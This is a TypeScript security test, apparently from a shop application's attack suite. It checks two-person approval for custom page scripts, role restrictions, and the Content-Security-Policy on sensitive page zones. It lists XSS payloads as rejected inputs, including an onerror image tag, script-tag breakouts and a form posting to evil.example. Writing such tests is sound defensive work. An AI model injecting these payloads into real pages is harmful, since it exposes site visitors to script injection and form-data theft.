import { zoneRoots } from '../apps/web/app/zones.ts'
import { decide } from './support/approvals.ts'
import { eventually } from './support/eventually.ts'
import {
  aDraft,
  hashOf,
  publishedScript,
  scriptPost,
  stopScript,
  waitingOf,
} from './support/scripts.ts'
import { hasPages } from './support/servers.ts'
import { type Attack, newTrial } from './support/trial.ts'

export const scriptsOfOne: Attack = {
  id: 'CS2',
  says: 'Nobody alone brings code into a page, and no page of payments, keys or staff lets any run (T28)',
  async run(shop) {
    const trial = newTrial()
    const { id, content, isPublished, author, second } = await publishedScript(shop)
    trial.works('two people publish a script', isPublished)
    const visitor = shop.browser()
    const live = async () => (await visitor.get('/api/custom-scripts/public')).text
    const isLive = await eventually(async () => (await live()).includes(id), 10_000)
    trial.works('it is in the public list', Boolean(isLive))

    const evil = aDraft({ content: 'window.evil = 1' })
    const own = String((await scriptPost(second, '', evil)).json.id)
    await scriptPost(second, `/${own}/publish`, {})
    const waiting = await waitingOf(second, own)
    const alone = waiting ? await decide(second, waiting) : undefined
    trial.held('an admin publishes their own', (alone?.status ?? 0) >= 400, alone?.text)
    const on = await scriptPost(second, `/${own}/on`, { reason: 'Now' })
    trial.held('a draft is switched on', on.status >= 400, on.text)
    const start = await scriptPost(author, `/${id}/on`, { reason: 'Now' })
    trial.held('marketing switches one on', start.status === 403, start.text)
    for (const over of [
      { scriptType: 'html', content: '<img src=x onerror=alert(1)>' },
      { scriptType: 'html', content: '<script>alert(1)</script>' },
      { scriptType: 'html', content: '<iframe src="/account"></iframe>' },
      { scriptType: 'html', content: '<form action="https://evil.example"><input></form>' },
      { scriptType: 'css', content: '</style><script>alert(1)</script>' },
      { scriptType: 'javascript', content: '<script>alert(1)</script>' },
    ]) {
      const { status } = await scriptPost(author, '', aDraft(over))
      trial.held(`${over.content} is kept`, status === 400, status)
    }
    for (const role of ['support', 'catalogue', 'finance', 'auditor']) {
      const answer = await scriptPost(await shop.staff(role), '', aDraft())
      trial.held(`${role} writes a script`, answer.status === 403, answer.status)
    }
    trial.held('what one person wrote runs', !(await live()).includes(own))

    if (hasPages) {
      const policyOf = async (path: string) => {
        const { headers } = await visitor.get(path, { cookie: 'consent=all' })
        return String(headers['content-security-policy'])
      }
      const isAllowed = await eventually(
        async () => (await policyOf('/faq')).includes(hashOf(content)),
        10_000,
      )
      trial.works('a public page lets it run', Boolean(isAllowed))
      for (const root of Object.values(zoneRoots).flat()) {
        for (const path of [root, `${root}/x`, root.toUpperCase(), `${root}?utm_source=x`]) {
          const policy = await policyOf(path)
          const isClosed = !policy.includes('sha256-') && !/script-src[^;]*unsafe/.test(policy)
          trial.held(`${path} lets it run`, isClosed, policy)
        }
      }
    }
    await stopScript(author, id)
    return trial.outcome()
  },
}
